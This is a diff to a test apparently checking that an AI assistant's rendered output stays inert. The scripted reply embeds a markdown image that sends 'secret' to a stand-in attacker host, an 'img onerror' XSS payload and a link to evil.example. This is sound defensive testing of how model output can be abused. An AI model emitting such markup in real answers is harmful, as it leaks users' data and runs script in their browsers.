@@ -222,8 +222,8 @@ def test_nothing_of_the_models_own_comes_alive(sample):
     def script(shown):
         key = key_of(shown, "May 2019")
         return (
-            f"![p](https://evil.example/?q=secret)Benvitimod cream was **approved** <img src=x onerror=alert(1)> in May "
-            f"2019 [{key}][1][99](https://evil.example)."
+            f"![p](https://evil.example/?q=secret)Benvitimod cream was **approved** <img src=x onerror=alert(1)> in "
+            f"May 2019 [{key}][1][99](https://evil.example)."
         )
 
     with with_model(sample, script) as assistant:
